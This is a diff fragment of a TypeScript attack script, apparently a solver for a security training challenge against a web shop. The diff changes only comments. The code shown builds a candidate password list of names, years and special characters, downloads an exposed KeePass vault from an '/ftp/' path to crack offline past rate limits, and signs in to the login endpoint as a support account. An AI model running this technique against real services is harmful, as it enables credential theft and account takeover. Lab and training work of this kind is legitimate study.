@@ -5,14 +5,14 @@ import { passwordsIn } from './read-vault.ts'
 const signIn = (attacker: Attacker, password: string, email = `support@${attacker.domain}`) =>
   attacker.post('/rest/user/login', { email, password })
 
-/** What the rule in the client and the habit of the team leave: a name, a year, one sign. */
+/** Passwords that match the client's rule and the team's habit: a name, a year, one special character. */
 function masterWords(): string[] {
   const years = Array.from({ length: 6 }, (_, index) => 2019 + index)
   const names = ['Helpdesk', 'Orchard', 'Support']
   return names.flatMap((name) => years.flatMap((year) => [...'@$!%*?&'].map((sign) => `${name}${year}${sign}`)))
 }
 
-/** A vault is a file, and a file is tried at home, where no shop counts how often. */
+/** Cracks the vault file offline, where no rate limiter applies. */
 async function crack(attacker: Attacker): Promise<string[]> {
   const { status, bytes } = await attacker.get('/ftp/incident-support.kdbx')
   if (status !== 200) return []
